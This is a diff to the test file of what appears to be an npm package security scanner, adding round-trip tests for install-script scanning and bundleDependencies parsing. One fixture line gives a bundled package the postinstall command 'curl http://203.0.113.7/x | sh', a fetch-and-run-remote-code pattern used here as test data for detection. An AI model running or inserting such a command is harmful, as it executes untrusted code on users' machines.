@@ -129,8 +129,13 @@ def test_tarball_codec_round_trip_and_unknown_fields_dropped() -> None:
         has_code=True,
         manifest_scripts={"postinstall": "node x"},
         texts={"tea.yaml": "codeLead: 0xabc"},
+        bundled_scripts={"node_modules/a": {"postinstall": "curl http://203.0.113.7/x | sh"}},
     )
-    assert codec.decode_tarball(codec.encode_tarball(facts)) == facts
+    decoded = codec.decode_tarball(codec.encode_tarball(facts))
+    assert decoded == facts
+    assert [h.where for h in decoded.install_scan or ()][-1] == (
+        "node_modules/a: scripts.postinstall"
+    )
     # a blob written by another npmguard with a field this one lacks still decodes
     import zlib
 
@@ -161,3 +166,23 @@ def test_picture_of_many_versions_is_compact() -> None:
     }
     blob = codec.encode_picture(extract_package("big", data).picture)
     assert len(blob) < 10_000  # 2,000 versions in under 10 KB
+
+
+@pytest.mark.parametrize(
+    ("fields", "expected"),
+    [
+        ({"bundleDependencies": ["a", "b"]}, ("a", "b")),
+        ({"bundledDependencies": ["a"]}, ("a",)),  # npm reads the misspelling too
+        ({"bundleDependencies": ["a"], "bundledDependencies": ["b"]}, ("a",)),
+        ({"bundleDependencies": True}, True),
+        ({"bundleDependencies": {"a": "1"}}, ("a",)),  # an object's keys, as npm does
+        ({"bundleDependencies": False}, ()),
+        ({}, ()),
+    ],
+)
+def test_manifest_bundle_dependencies_round_trip(fields: dict[str, Any], expected: object) -> None:
+    doc = load("public-full.json")
+    doc["versions"]["1.0.0"].update(fields)
+    manifest = extract_package("demo-cli", doc, ["1.0.0"]).manifests["1.0.0"]
+    assert manifest.bundle_dependencies == expected
+    assert codec.decode_manifest(codec.encode_manifest(manifest)) == manifest
